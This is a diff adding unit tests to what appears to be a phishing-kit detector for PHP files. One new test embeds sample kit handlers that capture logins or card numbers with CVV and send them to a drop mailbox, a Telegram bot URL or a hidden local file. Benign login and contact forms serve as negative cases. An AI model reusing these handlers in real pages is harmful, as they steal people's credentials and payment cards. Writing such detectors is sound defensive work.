@@ -97,11 +97,70 @@ static void test_real_databases_are_quiet(void **state)
 	      "if (password_verify($_POST['password'], $r['hash'])) { $_SESSION['u'] = 1; }");
 }
 
+/* Second round: a kit whose form and handler are one file, fields named
+ * for nothing, no label in the message; the form says what they are. */
+static void test_form_in_the_same_file(void **state)
+{
+	(void)state;
+	/* a password input by type, mailed with the visitor's address */
+	at_least("<?php if ($_SERVER['REQUEST_METHOD'] == 'POST') {\n"
+	         "mail('drop@example-box.test', 'new', $_POST['a'] . ' ' . $_POST['b'] . ' ' . "
+	         "$_SERVER['REMOTE_ADDR']); header('Location: https://example.com/'); exit; } ?>\n"
+	         "<form method=\"post\"><input name=\"a\" placeholder=\"E-mail\">"
+	         "<input type=\"password\" name=\"b\"><button>Sign in</button></form>",
+	         HS_SEV_HIGH);
+	/* card fields named by their placeholders, to a bot */
+	at_least(
+	    "<?php if (!empty($_POST)) { $t = $_POST['x1'] . '|' . $_POST['x2'] . '|' . "
+	    "$_POST['x3'];\n"
+	    "file_get_contents('https://api.telegram.org/bot1:A/sendMessage?chat_id=2&text=' . "
+	    "urlencode($t)); } ?>\n"
+	    "<form action=\"\" method=\"post\"><input name=\"x1\" placeholder=\"Nomor kartu\">"
+	    "<input name=\"x2\" placeholder=\"MM/YY\"><input name=\"x3\" placeholder=\"CVV\">"
+	    "</form>",
+	    HS_SEV_HIGH);
+	/* a <label> in French before the input, appended to a file */
+	at_least("<?php if (isset($_POST['k'])) { file_put_contents('.r.txt', $_POST['k'] . ';' . "
+	         "$_POST['q'] . ';' . $_SERVER['REMOTE_ADDR'] . \"\\n\", FILE_APPEND); } ?>\n"
+	         "<form method=\"post\" action=\"<?= $_SERVER['PHP_SELF'] ?>\">"
+	         "<label>Num\xc3\xa9ro de carte</label><input name=\"k\">"
+	         "<label>Cryptogramme</label><input name=\"q\"></form>",
+	         HS_SEV_MEDIUM);
+}
+
+static void test_own_forms_are_quiet(void **state)
+{
+	(void)state;
+	/* an application's login: the password verified, a failed login logged */
+	quiet(
+	    "<?php if ($_POST) { $u = get_user($_POST['a']);\n"
+	    "if (!$u || !password_verify($_POST['b'], $u['hash'])) { file_put_contents('auth.log', "
+	    "$_POST['a'] . ' ' . $_SERVER['REMOTE_ADDR'] . \"\\n\", FILE_APPEND); } } ?>\n"
+	    "<form method=\"post\"><input name=\"a\"><input type=\"password\" name=\"b\"></form>");
+	/* a contact form: nothing secret asked */
+	quiet("<?php if ($_POST) { mail('office@example.org', 'Contact', $_POST['n'] . \"\\n\" . "
+	      "$_POST['m'] . \"\\n\" . $_SERVER['REMOTE_ADDR']); } ?>\n"
+	      "<form method=\"post\"><label>Name</label><input name=\"n\">"
+	      "<label>Message</label><textarea name=\"m\"></textarea></form>");
+	/* the form posts elsewhere (a gateway): this file's handler is another's */
+	quiet("<?php if ($_POST) { mail('office@example.org', 'Order', $_POST['n'] . ' ' . "
+	      "$_SERVER['REMOTE_ADDR']); } ?>\n"
+	      "<form method=\"post\" action=\"https://pay.example-gateway.com/charge\">"
+	      "<input name=\"n\"><input name=\"c\" placeholder=\"Card number\"></form>");
+	/* the handler mails the user name only; the password input is not read */
+	quiet("<?php if ($_POST) { mail('admin@example.org', 'Signup', 'New member: ' . "
+	      "$_POST['a'] . ' ' . $_SERVER['REMOTE_ADDR']); } ?>\n"
+	      "<form method=\"post\"><input name=\"a\"><input type=\"password\" name=\"pw1\">"
+	      "</form>");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_remote_database),
 	    cmocka_unit_test(test_real_databases_are_quiet),
+	    cmocka_unit_test(test_form_in_the_same_file),
+	    cmocka_unit_test(test_own_forms_are_quiet),
 	};
 	int rc = cmocka_run_group_tests(tests, NULL, NULL);
 	php_result_free(&res);
